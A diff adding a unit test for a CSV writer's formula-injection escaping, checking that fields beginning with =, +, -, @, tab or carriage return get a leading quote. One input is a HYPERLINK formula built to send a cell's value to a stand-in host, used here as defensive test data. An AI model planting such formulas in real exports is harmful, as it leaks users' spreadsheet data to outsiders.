@@ -33,6 +33,20 @@ describe('CSV writer', () => {
     expect(toCsv(['a'], [])).toBe('\uFEFFa\r\n');
   });
 
+  it('writes a text a spreadsheet would evaluate with a leading quote, and numbers as they are', () => {
+    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"clic")')).toBe(
+      '"\'=HYPERLINK(""http://x.example/?""&A1,""clic"")"',
+    );
+    expect(csvField('+51 999 888 777')).toBe("'+51 999 888 777");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(csvField('\t=1+1')).toBe("'\t=1+1");
+    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
+    expect(csvField(-12.5)).toBe('-12.5');
+    expect(csvField('Ceviche = rico')).toBe('Ceviche = rico');
+    expect(csvField("'ya citado")).toBe("'ya citado");
+  });
+
   it('names an attachment without breaking the header', () => {
     expect(attachment('ventas-dia-2026-11-01-2026-11-30.csv')).toBe(
       'attachment; filename="ventas-dia-2026-11-01-2026-11-30.csv"',
